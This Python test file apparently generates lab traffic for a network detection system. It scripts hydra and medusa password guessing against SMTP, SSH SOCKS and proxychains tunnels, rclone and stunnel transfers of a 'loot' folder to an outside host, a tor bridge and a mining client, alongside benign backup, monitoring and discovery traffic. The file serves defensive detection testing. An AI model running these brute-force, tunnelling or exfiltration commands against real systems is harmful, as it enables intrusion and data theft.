"""More cases of behaviour_tools: tools whose work is hidden in something else, and the everyday traffic that looks
most like an attack. Adds to tools_cases.CASES."""
import sys
import time

import tools_servers as servers
from tools_cases import case, guess, resolver
from tools_site import BAD, DC, GATE, LAN, OUT, PC

guess("hydra smtp", [2210], servers.smtp, LAN, "hydra", "-I", "-t", "4", "-l", "alice", "-P", "@words", f"smtp://{LAN}",
      also={2130, 2213}, sample=True)
guess("medusa smtp", [2210], servers.smtp, LAN, "medusa", "-h", LAN, "-u", "alice", "-P", "@words", "-M", "smtp", "-t", "4",
      also={2130, 2213})


# --- tunnels and hidden ways ---
def pem(s):
    path = s.folder / "tunnel.pem"
    if not path.exists():
        import subprocess
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=tunnel", "-days", "9",
                        "-keyout", path, "-out", f"{path}.crt"], check=True, capture_output=True)
        path.write_text(path.read_text() + open(f"{path}.crt").read())
    return path


@case("ssh -D on 443, a proxy for what runs on the host", {2121: (BAD, OUT)})
def ssh_socks(s):
    servers.sshd(s, "out", 443)
    servers.pages(s, "out", OUT, 80)
    s.begin("bad", "ssh", "-N", "-D", "127.0.0.1:1080", "-p", "443", *servers.ssh_key(s), f"root@{OUT}")
    time.sleep(3)
    for i in range(12):
        s.do("bad", "curl", "-s", "-x", "socks5h://127.0.0.1:1080", f"http://{OUT}/page{i}", "-o", "/dev/null", seconds=10)


@case("sslh: ssh and the web behind one port", {2121: (BAD, None)})
def sslh(s):
    servers.sshd(s, "out")
    servers.pages(s, "out", OUT, 80)
    s.begin("out", "sslh", "-f", "-p", "198.51.100.13:443", "--ssh", f"{OUT}:22", "--tls", f"{OUT}:80", "-n")
    time.sleep(1.5)
    s.do("bad", "ssh", "-p", "443", *servers.ssh_key(s), "root@198.51.100.13", "ls -lR /usr/share/doc | head -100", seconds=20)


@case("proxychains through somebody's SOCKS proxy", {2121: (BAD, OUT)}, also={2201, 2202})
def proxychains(s):
    servers.sshd(s, "out", 443)
    servers.pages(s, "out", OUT, 80)
    s.begin("bad", "ssh", "-N", "-D", "127.0.0.1:1081", "-p", "443", *servers.ssh_key(s), f"root@{OUT}")
    conf = s.file("proxychains.conf", "strict_chain\nproxy_dns\n[ProxyList]\nsocks5 127.0.0.1 1081\n")
    time.sleep(3)
    s.do("bad", "proxychains4", "-q", "-f", conf, "curl", "-s", f"http://{OUT}/page1", "-o", "/dev/null", seconds=15)


@case("60 MB by rclone over sftp", {2400: (BAD, OUT)}, also={2302, 2410})
def rclone(s):
    servers.sshd(s, "out")
    key = servers.ssh_key(s)[1]
    big = s.folder / "loot"
    big.mkdir(exist_ok=True)
    for i in range(4):
        with open(big / f"part{i}", "wb") as f:
            f.truncate(16 << 20)
    s.do("bad", "rclone", "copy", big, f":sftp,host={OUT},user=root,key_file={key},shell_type=unix:/tmp/rclone-{s.net.tag}",
         "--config", "/dev/null", seconds=90)
    s.do("out", "rm", "-rf", f"/tmp/rclone-{s.net.tag}")


@case("60 MB in TLS by stunnel", {2400: (BAD, OUT)}, also={2302, 2410, 2122})
def stunnel(s):
    cert = pem(s)
    conf = s.file("stunnel.conf", f"foreground = yes\npid =\ncert = {cert}\n[t]\naccept = {OUT}:8443\nconnect = 127.0.0.1:9099\n")
    s.begin("out", "socat", "-u", "TCP-LISTEN:9099,fork,reuseaddr", "OPEN:/dev/null")
    s.begin("out", "stunnel4", conf)
    time.sleep(2)
    s.do("bad", "sh", "-c", f"head -c 62000000 /dev/zero | openssl s_client -quiet -connect {OUT}:8443", seconds=60)


@case("tor at a bridge of its own", {2602: (BAD, OUT)}, also={2120, 2122, 2300, 2302, 2332})
def tor(s):
    common = "SocksPort {0}\nDataDirectory {1}\nLog notice stdout\nAvoidDiskWrites 1\n"
    for name, port, more in (("bridge", 0, f"ORPort {OUT}:9001 IPv4Only\nBridgeRelay 1\nPublishServerDescriptor 0\nExitRelay 0\n"
                              "AssumeReachable 1\nContactInfo none\n"),
                             ("client", 9052, f"UseBridges 1\nBridge {OUT}:9001\n")):
        folder = s.folder / f"tor-{name}"
        folder.mkdir(exist_ok=True)
        folder.chmod(0o700)
        conf = s.file(f"torrc-{name}", common.format(port, folder) + more)
        s.begin("out" if name == "bridge" else "bad", "tor", "-f", conf, "--defaults-torrc", "/dev/null")
        time.sleep(6)
    time.sleep(14)


STRATUM = r"""
import json, socket, sys, time
with socket.create_connection((sys.argv[1], 3333), timeout=5) as c:
    for n, (method, params) in enumerate((("mining.subscribe", ["cpuminer/2.5"]), ("mining.authorize", ["worker.1", "x"]),
                                          ("mining.submit", ["worker.1", "4f", "00", "5f5f5f5f", "01020304"])) * 2):
        c.sendall(json.dumps({"id": n + 1, "method": method, "params": params}).encode() + b"\n")
        c.recv(2000)
        time.sleep(.5)
"""


@case("Stratum as Bitcoin's miners speak it", {2600: (BAD, OUT)})
def stratum(s):
    from tools_cases import POOL
    s.begin("out", sys.executable, "-c", POOL, OUT)
    time.sleep(.7)
    s.python("bad", STRATUM, OUT)


# --- on the local network ---
@case("a share copied whole", also={2239, 2251, 2410})
def mass_copy(s):
    """Reading many files is what a backup does, too: nothing is to be told of it inside."""
    servers.smbd(s)
    s.do("lan", "smbclient", f"//{PC}/files", "-U", "root%right", "-c", "prompt; recurse; mput /usr/share/doc/python3*; mget *", seconds=40)


# --- everyday ---
@case("a backup by rsync over ssh, inside")
def rsync(s):
    servers.sshd(s)
    key = servers.ssh_key(s)
    shell = "ssh " + " ".join(map(str, key))
    for i in range(3):
        s.do("pc", "rsync", "-a", "-e", shell, "/usr/share/doc/", f"root@{LAN}:/tmp/rsync-{s.net.tag}/", seconds=100)
    s.do("lan", "rm", "-rf", f"/tmp/rsync-{s.net.tag}")


@case("a backup by borg over ssh, inside")
def borg(s):
    servers.sshd(s)
    key = servers.ssh_key(s)
    shell = "ssh " + " ".join(map(str, key))
    where = f"ssh://root@{LAN}/tmp/borg-{s.net.tag}"
    env = ["env", f"BORG_RSH={shell}", f"BORG_BASE_DIR={s.folder}", "BORG_UNKNOWN_UNENCRYPTED_REPO_ACCESS_IS_OK=yes"]
    s.do("pc", *env, "borg", "init", "-e", "none", where, seconds=60)
    s.do("pc", *env, "borg", "create", f"{where}::one", "/usr/share/doc", seconds=100)
    s.do("lan", "rm", "-rf", f"/tmp/borg-{s.net.tag}")


@case("updates polled by eight programs, each by its own clock", also={2300, 2302})
def updates(s):
    servers.pages(s, "out", OUT, 80)
    s.python("pc", r"""
import random, sys, threading, time, urllib.request
def poll(pause, name):
    for _ in range(6):
        r = urllib.request.Request(f"http://{sys.argv[1]}/page{name}", headers={"User-Agent": f"updater-{name}/1.{name}"})
        urllib.request.urlopen(r, timeout=5).read(); time.sleep(pause * random.uniform(.5, 1.6))
t = [threading.Thread(target=poll, args=(1 + i / 3, i)) for i in range(8)]
[x.start() for x in t]; [x.join() for x in t]
""", OUT, seconds=60)


@case("monitoring by SNMP, ping and the web")
def monitoring(s):
    servers.snmpd(s)
    servers.pages(s)
    servers.sshd(s)
    for _ in range(6):
        s.do("gate", "snmpwalk", "-v2c", "-c", "right", "-t", "2", LAN, "system", seconds=20)
        s.do("gate", "fping", "-q", LAN, PC, DC, seconds=5)
        s.do("gate", "curl", "-s", f"http://{LAN}/", "-o", "/dev/null", seconds=5)
        s.do("gate", "/usr/lib/nagios/plugins/check_ssh", LAN, seconds=5)
        s.do("gate", "/usr/lib/nagios/plugins/check_http", "-I", LAN, seconds=5)


@case("a mail server's day", also={2130})
def mail_day(s):
    servers.smtp(s)
    s.python("pc", r"""
import smtplib, sys, time
for i in range(30):
    m = smtplib.SMTP(sys.argv[1]); m.ehlo("pc.site.example")
    m.sendmail("alice@site.example", [f"user{i}@site.example"], "Subject: a mail\r\n\r\nHello, this is mail %d.\r\n" % i * 20); m.quit()
    time.sleep(.2)
""", LAN, seconds=60)


@case("a call with voice and video", also={2302})
def video(s):
    s.begin("out", sys.executable, "-c", """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 3478))
while True:
    d, who = s.recvfrom(2000); s.sendto(d, who)
""", OUT)
    time.sleep(.7)
    s.python("pc", r"""
import os, socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(.01)
s.sendto(b"\0\1\0\0\x21\x12\xa4\x42" + os.urandom(12), (sys.argv[1], 3478))
for i in range(800):
    size = 160 if i % 4 else 1100
    s.sendto(struct.pack("!BBHII", 0x80, 96 if i % 4 == 0 else 0, i, i * 160, 0x1234) + os.urandom(size), (sys.argv[1], 3478))
    try: s.recv(2000)
    except OSError: pass
    time.sleep(.01)
""", OUT)


@case("a PC that looks for printers and televisions")
def discovery(s):
    s.python("pc", r"""
import socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(sys.argv[1])); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
kinds = ["_ipp._tcp", "_ipps._tcp", "_printer._tcp", "_pdl-datastream._tcp", "_googlecast._tcp", "_airplay._tcp", "_smb._tcp"]
for turn in range(3):
    for k in kinds:
        q = b"".join(bytes([len(p)]) + p.encode() for p in (k + ".local").split("."))
        s.sendto(struct.pack("!HHHHHH", 0, 0, 1, 0, 0, 0) + q + b"\0\0\x0c\0\1", ("224.0.0.251", 5353))
    for st in ("ssdp:all", "urn:schemas-upnp-org:device:MediaRenderer:1", "urn:schemas-upnp-org:device:Printer:1"):
        s.sendto(f"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 2\r\nST: {st}\r\n\r\n".encode(), ("239.255.255.250", 1900))
    s.sendto(b"\x02\x04\0\0" + bytes(28), ("10.77.0.255", 161))
    time.sleep(1)
""", PC)


@case("time from a server, by many clients")
def ntp(s):
    s.begin("gate", sys.executable, "-c", """
import socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 123))
while True:
    d, who = s.recvfrom(200)
    t = struct.pack("!II", int(time.time()) + 2208988800, 0)
    s.sendto(b"\\x24\\2\\6\\xec" + bytes(8) + b"LOCL" + t + d[40:48] + t + t, who)
""", GATE)
    time.sleep(.7)
    for host in ("pc", "lan", "dc", "bad"):
        s.python(host, r"""
import socket, sys, time
for _ in range(16):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(b"\x23" + bytes(47), (sys.argv[1], 123)); s.recv(100); time.sleep(.3)
""", GATE)


@case("names of many places, as a day's browsing has them")
def browsing(s):
    resolver(s, "gate", GATE)
    s.python("pc", r"""
import random, socket, struct, sys
r = random.Random(9); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(.3)
for i in range(300):
    name = r.choice(["www", "cdn", "static", "img", "api", "fonts"]) + str(r.randint(1, 40)) + "." + r.choice(
        ["news", "shop", "bank", "travel", "video"]) + ".site.example"
    s.sendto(struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
             + b"\0\0\1\0\1", (sys.argv[1], 53))
    try: s.recv(2000)
    except OSError: pass
""", GATE)
